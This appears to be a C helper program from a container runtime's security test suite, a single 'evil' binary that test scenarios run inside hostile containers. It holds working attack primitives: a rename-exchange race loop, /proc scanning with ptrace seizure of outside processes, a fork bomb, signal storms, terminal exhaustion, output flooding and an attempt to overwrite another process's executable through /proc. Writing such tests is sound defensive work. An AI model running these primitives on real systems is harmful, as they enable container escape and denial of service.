/* SPDX-License-Identifier: Apache-2.0 */

/*
 * What a hostile container runs. One static program, so that the same thing can be the init of a container, a further process in
 * it, and the one who attacks from outside: `evil WHAT [ARGUMENT]…`. Nothing here knows what it is to find; the plays do.
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

/* Exchanges two names as fast as it can. */
static int swap(char **names)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, names[0], AT_FDCWD, names[1], RENAME_EXCHANGE) < 0)
			return 1;
}

static void say_link(const char *path)
{
	char target[PATH_MAX];
	ssize_t n = readlink(path, target, sizeof(target) - 1);

	if (n < 0)
		return;
	target[n] = '\0';
	printf("%s -> %s\n", path, target);
	fflush(stdout);
}

/* Everything that can be had of one process. */
static void peek_at(const char *pid)
{
	static const char *const links[] = {"exe", "cwd", "root"};
	char path[PATH_MAX];

	for (size_t i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
		say_link(path);
	}
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *dir = opendir(path);
	for (struct dirent *entry; dir && (entry = readdir(dir));) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		say_link(path);
	}
	if (dir)
		closedir(dir);
	pid_t number = (pid_t)atoi(pid);
	if (ptrace(PTRACE_SEIZE, number, NULL, NULL) == 0) {
		printf("seized %s\n", pid);
		fflush(stdout);
		ptrace(PTRACE_DETACH, number, NULL, NULL);
	}
}

/* Looks at every process but those of its own session, over and over. */
static int peek(void)
{
	struct timespec pause = {0, 20000};

	for (;;) {
		DIR *dir = opendir("/proc");
		for (struct dirent *entry; dir && (entry = readdir(dir));) {
			pid_t pid = (pid_t)atoi(entry->d_name);
			if (pid > 1 && getsid(pid) != getsid(0))
				peek_at(entry->d_name);
		}
		if (!dir)
			return 1;
		closedir(dir);
		nanosleep(&pause, NULL);
	}
}

/* The same signal to everybody, without end. Those who ask are told once that it has begun. */
static _Noreturn void storm(int signal)
{
	printf("storm\n");
	fflush(stdout);
	for (;;) {
		kill(-1, signal);
		sched_yield();
	}
}

static _Noreturn void bomb(void)
{
	printf("bomb\n");
	fflush(stdout);
	for (;;)
		if (fork() < 0)
			sched_yield();
}

static int flood(void)
{
	static char block[65536];
	int fd = fork() == 0 ? 1 : 2;

	memset(block, 'x', sizeof(block));
	for (;;)
		if (write(fd, block, sizeof(block)) < 0)
			return 1;
}

/* Takes every terminal that there is, and says how many. */
static _Noreturn void terminals(void)
{
	int count = 0;

	while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0)
		count++;
	printf("%d\n", count);
	fflush(stdout);
	for (;;)
		pause();
}

static _Noreturn void without_stdio(void)
{
	close(0);
	close(1);
	close(2);
	for (;;)
		pause();
}

/* Goes into a mount namespace of its own with another file at @path, and stays. */
static int elsewhere(const char *path, const char *with)
{
	if (unshare(CLONE_NEWNS) < 0 || mount(with, path, NULL, MS_BIND, NULL) < 0) {
		printf("no: %s\n", strerror(errno));
		return 1;
	}
	printf("elsewhere\n");
	fflush(stdout);
	for (;;)
		pause();
}

/* The descriptors that it was born with, those beyond stdio by their targets. */
static int descriptors(void)
{
	char path[64];

	for (int fd = 0; fd < 4096; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (fcntl(fd, F_GETFD) >= 0) {
			printf("%d ", fd);
			fflush(stdout);
			if (fd > 2)
				say_link(path);
		}
	}
	printf("\n");
	return 0;
}

/* Holds on to the program of another process, and writes to it as soon as that is not running any more. */
static int overwrite(const char *pid, const char *seconds)
{
	char path[64];
	time_t end = time(NULL) + atoi(seconds);
	int held = -1;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	while (held < 0 && time(NULL) < end)
		held = open(path, O_RDONLY | O_CLOEXEC);
	if (held < 0) {
		printf("not opened: %s\n", strerror(errno));
		return 0;
	}
	printf("opened\n");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	while (time(NULL) < end) {
		int fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			printf("overwritten %zd\n", write(fd, "evil", 4));
			return 1;
		}
		sched_yield();
	}
	printf("not written: %s\n", strerror(errno));
	return 0;
}

/* Where we are, as the kernel says, and whether @name is to be read from here. */
static int where(const char *name)
{
	char path[PATH_MAX + 1] = "", line[256] = "";
	long n = syscall(SYS_getcwd, path, sizeof(path));

	printf("cwd %s\n", n < 0 ? strerror(errno) : path);
	int fd = open(name, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && read(fd, line, sizeof(line) - 1) > 0)
		printf("read %s\n", line);
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "swap") && argc > 3)
		return swap(argv + 2);
	if (!strcmp(what, "peek"))
		return peek();
	if (!strcmp(what, "storm") && argc > 2)
		storm(atoi(argv[2]));
	if (!strcmp(what, "bomb"))
		bomb();
	if (!strcmp(what, "flood"))
		return flood();
	if (!strcmp(what, "terminals"))
		terminals();
	if (!strcmp(what, "without-stdio"))
		without_stdio();
	if (!strcmp(what, "elsewhere") && argc > 3)
		return elsewhere(argv[2], argv[3]);
	if (!strcmp(what, "descriptors"))
		return descriptors();
	if (!strcmp(what, "overwrite") && argc > 3)
		return overwrite(argv[2], argv[3]);
	if (!strcmp(what, "where") && argc > 2)
		return where(argv[2]);
	if (!strcmp(what, "sleep"))
		for (;;)
			pause();
	fprintf(stderr, "evil: what?\n");
	return 2;
}
